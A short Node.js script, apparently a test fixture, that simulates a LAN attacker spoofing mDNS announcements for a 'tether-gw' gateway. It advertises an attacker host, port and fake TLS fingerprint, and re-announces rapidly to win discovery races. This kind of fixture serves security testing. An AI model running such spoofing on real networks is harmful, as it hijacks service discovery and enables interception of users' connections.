// An attacker on the LAN: answers for the gateway's instance name with its own port, host and fingerprint
// (no probing, like a real attacker), re-announcing often so it wins "last packet wins" races.
import { Bonjour } from 'bonjour-service';
const b = new Bonjour({ interface: process.env.MDNS_IF, bind: '0.0.0.0' }, () => {});
b.server.mdns.on('error', () => {});
b.server.mdns.on('warning', () => {});
const publish = () =>
  b.publish({ name: process.env.NAME ?? 'tt-gw', type: 'tether-gw', port: 6666, host: 'attacker.local', probe: false, disableIPv6: true,
    txt: { role: 'gateway', transport: 'gateway', displayName: 'tt-gw', gatewayTls: '1', gatewayTlsSha256: 'ee'.repeat(32), protocol: '4' } });
const svc = publish();
// Re-announce often (no goodbyes: an attacker wants to be seen, not to leave).
const timer = setInterval(() => { try { b.server.mdns.respond(svc.records(), () => {}); } catch {} }, 400);
setTimeout(() => { clearInterval(timer); process.exit(0); }, Number(process.env.LIFETIME_MS ?? 6000));
